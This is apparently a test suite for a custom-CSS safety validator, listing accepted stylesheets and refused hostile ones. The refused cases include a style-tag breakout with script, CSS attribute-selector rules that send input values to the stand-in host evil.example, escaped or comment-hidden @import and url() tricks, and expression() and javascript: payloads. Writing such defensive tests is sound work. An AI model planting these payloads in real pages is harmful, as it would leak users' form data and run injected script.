import { CUSTOM_CSS_MESSAGES, customCssProblem, isSafeCustomCss } from './customCss';

describe('custom CSS checks', () => {
  it.each([
    '',
    '.hero { color: #fff; }',
    'a:hover > span::after { content: "{ not a brace }"; }',
    '@media (max-width: 600px) { .card { padding: 0 } }',
    '/* a comment with url(https://x) inside */ body { margin: 0 }',
    '.banner { background: url(/images/banner.png) no-repeat; }',
    ".banner { background-image: URL( '/images/ab.png' ); }",
    '@font-face { font-family: Brand; src: url("/fonts/brand.woff2") format("woff2"); }',
  ])('accepts %p', (css) => {
    expect(customCssProblem(css)).toBeNull();
    expect(isSafeCustomCss(css)).toBe(true);
  });

  it.each([
    ['body{}</style><script>alert(1)</script>', CUSTOM_CSS_MESSAGES.html],
    ['<!-- -->', CUSTOM_CSS_MESSAGES.html],
    ['@\\69mport url(https://evil.example/x.css);', CUSTOM_CSS_MESSAGES.escapes],
    ['a { background: u\\72l(https://evil.example) }', CUSTOM_CSS_MESSAGES.escapes],
    ['@import url(/local.css);', CUSTOM_CSS_MESSAGES.atRules],
    ['@IMPORT "https://evil.example/x.css";', CUSTOM_CSS_MESSAGES.atRules],
    ['@charset "utf-8";', CUSTOM_CSS_MESSAGES.atRules],
    ['input[value^="a"] { background: url(https://evil.example/a) }', CUSTOM_CSS_MESSAGES.remote],
    ['a { background: url(//evil.example/a) }', CUSTOM_CSS_MESSAGES.remote],
    ['a { background: url("data:image/png;base64,AAAA") }', CUSTOM_CSS_MESSAGES.remote],
    ['a { background: image-set("https://evil.example/a.png" 1x) }', CUSTOM_CSS_MESSAGES.remote],
    ['a { background: -webkit-image-set("x.png" 1x) }', CUSTOM_CSS_MESSAGES.remote],
    // "/*" inside an unquoted url() is part of the address: no comment hides the rule after it.
    [
      'input[value^="a"]{background:url(/x/*)}input[value^="b"]{background:url(https://evil.example/b*/)}',
      CUSTOM_CSS_MESSAGES.remote,
    ],
    [
      'a{background:url(/x/*)}b{background:image-set("https://evil.example/b" 1x)}c{d:url(/y*/)}',
      CUSTOM_CSS_MESSAGES.remote,
    ],
    [
      'a{b:url(/x/*)}@import "https://evil.example/x.css";c{d:url(/y*/)}',
      CUSTOM_CSS_MESSAGES.atRules,
    ],
    ['a { width: expression(alert(1)) }', CUSTOM_CSS_MESSAGES.script],
    ['a { background: url(javascript:alert(1)) }', CUSTOM_CSS_MESSAGES.script],
    ['a { behavior: url(/x.htc) }', CUSTOM_CSS_MESSAGES.script],
    ['a { -moz-binding: url(/x.xml#x) }', CUSTOM_CSS_MESSAGES.script],
    ['a { color: red', CUSTOM_CSS_MESSAGES.unbalanced],
    ['a { color: red } }', CUSTOM_CSS_MESSAGES.unbalanced],
    ['a { content: "open }', CUSTOM_CSS_MESSAGES.unbalanced],
    ['/* never closed', CUSTOM_CSS_MESSAGES.unbalanced],
    ['x'.repeat(20_001), CUSTOM_CSS_MESSAGES.tooLong],
  ])('refuses %p', (css, message) => {
    expect(customCssProblem(css)).toBe(message);
    expect(isSafeCustomCss(css)).toBe(false);
  });
});
